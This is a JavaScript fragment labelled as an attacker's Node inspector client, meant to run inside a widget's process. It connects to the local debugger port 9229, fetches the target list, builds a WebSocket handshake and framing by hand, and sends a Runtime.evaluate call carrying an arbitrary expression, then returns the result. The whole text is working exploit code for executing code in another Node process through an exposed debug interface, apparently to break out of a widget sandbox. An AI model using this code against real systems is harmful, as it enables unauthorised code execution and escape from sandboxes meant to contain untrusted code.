// the attacker's Node inspector client (run inside the widget, in process):
// /json/list, then one WebSocket frame with Runtime.evaluate of the expression
const http = require('http'), net = require('net'), crypto = require('crypto');
const port = 9229, expression = EXPR;
return await new Promise((resolve, reject) => {
  http.get({ host: '127.0.0.1', port, path: '/json/list' }, r => {
    let b = ''; r.on('data', c => { b += c; }); r.on('end', () => {
      const t = JSON.parse(b)[0], u = new URL(t.webSocketDebuggerUrl);
      const s = net.connect(+u.port, u.hostname, () => s.write(`GET ${u.pathname} HTTP/1.1\r\nHost: ${u.host}\r\nUpgrade: websocket\r\n` +
        `Connection: Upgrade\r\nSec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`));
      let buf = Buffer.alloc(0), up = false;
      s.on('data', c => {
        buf = Buffer.concat([buf, c]);
        if (!up) {
          const i = buf.indexOf('\r\n\r\n'); if (i < 0) return; up = true; buf = buf.slice(i + 4);
          const p = Buffer.from(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression, returnByValue: true, awaitPromise: true, includeCommandLineAPI: true } }));
          const m = crypto.randomBytes(4);
          let h;
          if (p.length < 126) h = Buffer.from([0x81, 0x80 | p.length]);
          else if (p.length < 65536) { h = Buffer.alloc(4); h[0] = 0x81; h[1] = 0x80 | 126; h.writeUInt16BE(p.length, 2); }
          else { h = Buffer.alloc(10); h[0] = 0x81; h[1] = 0x80 | 127; h.writeBigUInt64BE(BigInt(p.length), 2); }
          s.write(Buffer.concat([h, m, Buffer.from(p.map((v, j) => v ^ m[j % 4]))]));
        }
        while (buf.length >= 2) {
          let n = buf[1] & 0x7f, o = 2;
          if (n === 126) { if (buf.length < 4) return; n = buf.readUInt16BE(2); o = 4; } else if (n === 127) { if (buf.length < 10) return; n = Number(buf.readBigUInt64BE(2)); o = 10; }
          if (buf.length < o + n) return;
          const msg = JSON.parse(buf.slice(o, o + n).toString()); buf = buf.slice(o + n);
          if (msg.id === 1) { s.end(); const r = msg.result || {}; resolve(r.exceptionDetails ? 'EXC ' + JSON.stringify(r.exceptionDetails).slice(0, 800) : (r.result || {}).value); }
        }
      });
      s.on('error', reject);
    });
  }).on('error', reject);
});
